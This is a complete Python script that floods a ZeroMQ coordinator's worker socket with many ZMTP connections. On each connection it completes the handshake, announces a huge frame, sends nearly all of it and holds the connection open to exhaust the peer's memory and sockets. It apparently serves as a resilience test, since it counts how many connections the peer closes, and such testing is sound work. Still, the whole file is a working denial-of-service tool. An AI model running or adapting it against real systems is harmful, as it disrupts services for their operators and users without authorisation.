#!/usr/bin/env python3
"""Connection flood against a coordinator's worker socket (standard library only).

Each of N connections completes the ZMTP 3.0 NULL handshake as a DEALER, announces one frame of
FRAME bytes and sends all but the last KiB of it, then waits. Run as

    mt_flood.py HOST PORT N FRAME_BYTES HOLD_S

It prints how many connections completed the handshake and how many the peer closed.
"""
import socket
import struct
import sys
import time


def greeting():
    return b"\xff" + b"\x00" * 8 + b"\x7f" + b"\x03\x00" + b"NULL".ljust(20, b"\x00") + b"\x00" + b"\x00" * 31


def ready():
    prop = b"\x0bSocket-Type" + struct.pack(">I", 6) + b"DEALER"
    body = b"\x05READY" + prop
    return b"\x04" + bytes([len(body)]) + body


def main():
    host, port, n, frame, hold = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), int(sys.argv[4]), float(sys.argv[5])
    conns, shaken, closed = [], 0, 0
    chunk = b"\x00" * 65536
    for _ in range(n):
        try:
            s = socket.create_connection((host, port), timeout=5)
            s.sendall(greeting())
            got = b""
            while len(got) < 64:
                part = s.recv(64 - len(got))
                if not part:
                    raise OSError("closed in greeting")
                got += part
            s.sendall(ready())
            # the peer's READY
            hdr = s.recv(2)
            if len(hdr) == 2:
                s.recv(hdr[1])
            shaken += 1
            s.sendall(b"\x02" + struct.pack(">Q", frame))  # one long final frame (no routing frame: DEALER sends body only)
            left = frame - 1024
            while left > 0:
                k = min(left, len(chunk))
                s.sendall(chunk[:k])
                left -= k
            conns.append(s)
        except OSError:
            closed += 1
    time.sleep(hold)
    for s in conns:
        s.setblocking(False)
        try:
            if s.recv(1) == b"":
                closed += 1
        except BlockingIOError:
            pass
        except OSError:
            closed += 1
    print(f"connections {n} handshaken {shaken} closed_by_peer {closed}")
    for s in conns:
        s.close()


if __name__ == "__main__":
    main()
